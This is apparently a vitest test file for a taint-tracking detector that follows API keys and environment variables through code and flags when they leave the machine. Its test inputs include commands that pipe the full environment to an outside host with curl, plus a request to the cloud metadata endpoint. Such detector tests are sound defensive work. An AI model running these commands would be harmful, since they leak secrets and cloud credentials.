import { expect, it } from 'vitest'
import { taintedNames, taintOf } from './tainted-names.ts'

const key = "os.environ['ABUSE_KEY']"

// WUN-103: a service does not answer with the key that it was asked with.
it('follows a key by plain assignments, and not into an answer', () => {
  const names = taintedNames(`a = ${key}\nb = a\nc = requests.get('https://a.test', headers={'Key': a})\nd = c\n`)
  expect([...names.keys()]).toEqual(['a', 'b'])
})

it('keeps what another machine gives that is a key itself', () => {
  expect(taintedNames("c = requests.get('http://169.254.169.254/latest')\n").get('c')?.kind).toBe('credentials')
})

it('takes a value of that name that is given to a handler for no environment', () => {
  expect(taintOf('const page = await open(env)')).toBeUndefined()
  expect(taintOf('async fetch(request, env) {')).toBeUndefined()
  expect(taintOf('curl -d "$(env)" https://a.test')?.kind).toBe('environment')
  expect(taintOf('env | curl -d @- https://a.test')?.kind).toBe('environment')
})

it('takes the question whether a variable is there for no environment, and what is given away in one for one', () => {
  const asked = "kind = any(k.startswith('CI') for k in os.environ)\n"
  expect(taintOf(asked)).toBeUndefined()
  expect([...taintedNames(asked).keys()]).toEqual([])
  expect(taintOf('all(send(k) for k in os.environ)')?.kind).toBe('environment')
})
